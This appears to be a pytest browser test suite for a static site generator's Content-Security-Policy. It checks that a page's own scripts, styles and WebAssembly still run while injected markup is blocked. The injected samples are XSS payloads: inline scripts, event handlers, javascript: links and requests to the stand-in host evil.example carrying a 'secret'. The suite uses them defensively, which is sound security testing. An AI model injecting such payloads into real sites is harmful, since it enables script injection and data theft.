"""The computed policy in a real browser: all that pages use works, and nothing that was slipped in does."""

import html
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from sealpress.config import sitefile
from sealpress.config.settings import ImageSettings
from ssg.build.build import build
from ssg.build.inputs import Request
from tests.browser.chromium import visit
from tests.docs.pages import SITE
from tests.imagebake.nginx.servers import Server, Way, dressed, serving

pytestmark = [pytest.mark.network, pytest.mark.xdist_group("browser")]

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
MODULE = "AGFzbQEAAAA="  # an empty WebAssembly module

# One of each thing that a page may run or show. The last script writes into the page what has worked.
PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>as it was</title>
<script type="importmap">{"imports": {"part": "/part.js"}}</script>
<script>
    const worked = {}, refused = [];\r
    addEventListener("securitypolicyviolation", one => refused.push(one.violatedDirective + " " + one.blockedURI));
</script>
<style>#styled { color: rgb(1, 2, 3) } @font-face { font-family: own; src: url(/font.woff2) }</style>
<link rel="stylesheet" href="/style.css"><link rel="icon" href="/icon.svg">
<script type="application/ld+json">{"@type": "Thing"}</script>
</head><body>
<p id="styled">text</p><p id="sheet">text</p>
<p id="attribute" style="color: rgb(4, 5, 6); --x: &quot;&amp;&quot;">text</p>
<button id="button" onclick="worked.handler = 'a &amp; b' === &quot;a \\x26 b&quot;">push</button>
<svg><style>#drawn { fill: rgb(7, 8, 9) } /* &gt; <![CDATA[ > ]]> */</style><rect id="drawn" width="1"/></svg>
<svg><script>worked.drawn = 1 &lt; 2</script></svg>
<img id="pixel" src="PIXEL" alt=""><img id="image" src="/icon.svg" alt="">
<iframe srcdoc="&lt;script&gt;parent.postMessage('framed')&lt;/script&gt;"></iframe>
<form action="/search"></form>
<script><!-- <script> in a comment </script> -->
    addEventListener("message", one => worked.framed = one.data === "framed");
</script>
<script src="/script.js"></script>
<script type="module">
    import { part } from "part";
    worked.part = part;
    worked.data = (await (await fetch("/data.json")).json()).length === 2;
    new WebAssembly.Module(Uint8Array.from(atob("MODULE"), one => one.charCodeAt(0)));
    worked.wasm = true;
    document.getElementById("button").click();
    const colour = id => getComputedStyle(document.getElementById(id)).color;
    worked.styled = colour("styled") === "rgb(1, 2, 3)";
    worked.sheet = colour("sheet") === "rgb(10, 11, 12)";
    worked.attribute = colour("attribute") === "rgb(4, 5, 6)";
    worked.fill = getComputedStyle(document.getElementById("drawn")).fill === "rgb(7, 8, 9)";
    worked.pixel = document.getElementById("pixel").naturalWidth === 1;
    worked.image = document.getElementById("image").complete;
    await new Promise(done => setTimeout(done, 300));
    document.body.dataset.worked = JSON.stringify(worked);
    document.body.dataset.refused = JSON.stringify(refused);
</script>
</body></html>
""".replace("PIXEL", PIXEL).replace("MODULE", MODULE)

WORKS = (
    "handler drawn framed external part data wasm styled sheet attribute fill pixel image".split()  # noqa: SIM905
)

FILES = {
    "index.html": PAGE.encode(),
    "part.js": b"export const part = true;\n",
    "script.js": b"worked.external = true;\n",
    "style.css": b"#sheet { color: rgb(10, 11, 12) }\n",
    "data.json": b"[1, 2]\n",
    "icon.svg": b"<svg xmlns='http://www.w3.org/2000/svg' width='2' height='2'/>\n",
    "font.woff2": b"wOF2",
    "code.wasm": b"\0asm\1\0\0\0",
}

SLIPPED_IN = """
<script>document.title = "owned"</script>
<img src="/none.png" onerror="document.title = 'owned'" alt="">
<script src="data:text/javascript,document.title='owned'"></script>
<script src="https://evil.example/script.js"></script>
<iframe srcdoc="&lt;script&gt;parent.document.title = 'owned'&lt;/script&gt;"></iframe>
<svg onload="document.title = 'owned'"></svg>
<a id="link" href="javascript:document.title='owned'">link</a>
<style>body { --owned: yes }</style><p style="--owned: yes">text</p>
<img src="https://evil.example/?secret" alt=""><object data="https://evil.example/"></object>
"""


def noted(dom: str, name: str) -> object:
    found = re.search(rf'data-{name}="([^"]*)"', dom)
    assert found, dom
    return json.loads(html.unescape(found[1]))


@contextmanager
def served(rootfs: Path, folder: Path, settings: ImageSettings, slipped_in: str = "") -> Iterator[Server]:
    """The site under nginx; `slipped_in` gets into its page after the policy was computed, as through a hole."""
    root = dressed(rootfs, FILES, settings, folder)
    page = root / "srv/www/index.html"
    page.with_name("index.html.br").unlink()
    page.write_bytes(page.read_bytes().replace(b"</body>", slipped_in.encode() + b"</body>"))
    with serving(root, Way("ld.so")) as found:
        yield found


def test_all_that_a_page_uses_works(browser: str, rootfs: Path, open_folder: Path) -> None:
    with served(rootfs, open_folder / "works", ImageSettings()) as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/")
        policy = server.get("/").headers["Content-Security-Policy"]
    assert "unsafe-inline" not in policy
    assert seen.violations == []
    assert noted(seen.dom, "refused") == []
    assert noted(seen.dom, "worked") == dict.fromkeys(WORKS, True)


def test_what_was_slipped_in_does_not_run(browser: str, rootfs: Path, open_folder: Path) -> None:
    with served(rootfs, open_folder / "slipped", ImageSettings(), SLIPPED_IN) as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/")
    assert "<title>as it was</title>" in seen.dom
    refused = noted(seen.dom, "refused")
    assert isinstance(refused, list)
    kinds = {one.split()[0] for one in refused}
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "object-src"} <= kinds
    assert len(seen.violations) >= 8
    assert noted(seen.dom, "worked") == dict.fromkeys(WORKS, True), "the page itself is none the worse for it"


def test_without_a_policy_it_would_have_run(browser: str, rootfs: Path, open_folder: Path) -> None:
    """So the test above can fail."""
    with served(rootfs, open_folder / "open", ImageSettings(policy="off"), SLIPPED_IN) as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/")
    assert "<title>owned</title>" in seen.dom
    assert seen.violations == []


def test_this_projects_own_site_needs_nothing_that_its_policy_refuses(
    browser: str, rootfs: Path, open_folder: Path, tmp_path: Path
) -> None:
    site = sitefile.load(SITE / "site.toml")
    built = build(Request(site, tmp_path / "public", dirty=True)).tree
    files = {entry.path: built.file(entry).read_bytes() for entry in built.entries}
    root = dressed(rootfs, files, site.settings.image, open_folder / "own")
    pages = ["/", "/fr/", "/docs/explanation/architecture/", "/docs/reference/site-toml/", "/posts/", "/tags/", "/none"]
    with serving(root, Way("ld.so")) as server:
        policy = server.get("/").headers["Content-Security-Policy"]
        for path in pages:
            seen = visit(browser, f"http://127.0.0.1:{server.port}{path}")
            assert (path, seen.violations) == (path, [])
            assert "</footer>" in seen.dom
    assert "'unsafe" not in policy
    assert policy.startswith("default-src 'none'; style-src 'self'")


DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10">
<style>#sheet { fill: rgb(1, 2, 3) }</style>
<g id="shape"><rect id="sheet" width="5" height="5"/><rect id="attribute" style="fill: rgb(4, 5, 6)" width="5"/></g>
<rect id="button" onclick="document.documentElement.dataset.pushed = '1'"/>
<script>
    const refused = [];
    addEventListener("securitypolicyviolation", one => refused.push(one.violatedDirective));
    addEventListener("load", () => {
        const root = document.documentElement, fill = id => getComputedStyle(document.getElementById(id)).fill;
        document.getElementById("button").dispatchEvent(new Event("click"));
        root.dataset.fills = JSON.stringify([fill("sheet"), fill("attribute"), root.dataset.pushed]);
        root.dataset.refused = JSON.stringify(refused);
    });
</script>
</svg>
"""

SHOWING = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>as it was</title><link rel="icon" href="/drawing.svg"></head><body>
<img id="image" src="/drawing.svg" alt=""><svg width="9" height="9"><use href="/drawing.svg#shape"/></svg>
<iframe id="frame" src="/drawing.svg"></iframe>
<script>
    const refused = [];
    addEventListener("securitypolicyviolation", one => refused.push(one.violatedDirective + " " + one.blockedURI));
    addEventListener("load", async () => {
        await new Promise(done => setTimeout(done, 300));
        const image = document.getElementById("image");
        const drawn = document.getElementById("frame").contentDocument;
        const worked = [image.naturalWidth, image.naturalHeight, drawn.documentElement.dataset.fills];
        document.body.dataset.worked = JSON.stringify(worked);
        document.body.dataset.refused = JSON.stringify(refused);
    });
</script>
</body></html>
"""

STOLEN = """<script>document.documentElement.setAttribute("data-stolen", "1")</script>
<g onload="document.documentElement.setAttribute('data-stolen', '1')"/>
<image href="https://evil.example/?secret"/><a id="x" href="javascript:1"/>"""


@contextmanager
def drawn(rootfs: Path, folder: Path, slipped_in: str = "") -> Iterator[Server]:
    root = dressed(rootfs, {"index.html": SHOWING.encode(), "drawing.svg": DRAWING.encode()}, ImageSettings(), folder)
    for sibling in (root / "srv/www").glob("*.br"):
        sibling.unlink()
    for file in ((root / "srv/www/drawing.svg"), (root / "srv/www/index.html")):
        text = file.read_text()
        file.write_text(text.replace("</svg>\n", slipped_in + "</svg>\n"))
    with serving(root, Way("ld.so")) as found:
        yield found


FILLS = ["rgb(1, 2, 3)", "rgb(4, 5, 6)", "1"]


def test_a_drawing_by_itself_has_its_styles_and_its_own_scripts(browser: str, rootfs: Path, open_folder: Path) -> None:
    with drawn(rootfs, open_folder / "drawn") as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/drawing.svg")
        policies = {
            path: server.get(path).headers["Content-Security-Policy"] for path in ("/", "/drawing.svg", "/no.svg")
        }
    assert noted(seen.dom, "fills") == FILLS
    assert (noted(seen.dom, "refused"), seen.violations) == ([], [])
    assert "style-src 'unsafe-inline'" in policies["/drawing.svg"]
    assert "unsafe-inline" not in policies["/"]
    assert "style" not in policies["/"]


def test_a_drawing_in_a_page_asks_nothing_of_the_pages_policy(browser: str, rootfs: Path, open_folder: Path) -> None:
    """As a picture, as an icon, by `use`, and in a frame, where it has its own."""
    with drawn(rootfs, open_folder / "shown") as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/")
    worked = noted(seen.dom, "worked")
    assert isinstance(worked, list)
    assert worked[:2] == [20, 10]
    assert json.loads(worked[2]) == FILLS
    assert (noted(seen.dom, "refused"), seen.violations) == ([], [])


def test_nothing_runs_in_a_drawing_that_was_not_sealed_with_it(browser: str, rootfs: Path, open_folder: Path) -> None:
    with drawn(rootfs, open_folder / "stolen", STOLEN) as server:
        seen = visit(browser, f"http://127.0.0.1:{server.port}/drawing.svg")
    assert "data-stolen" not in seen.dom.partition("<script>document")[0]
    assert {"script-src-elem", "script-src-attr", "img-src"} <= set(noted(seen.dom, "refused"))  # type: ignore[call-overload]
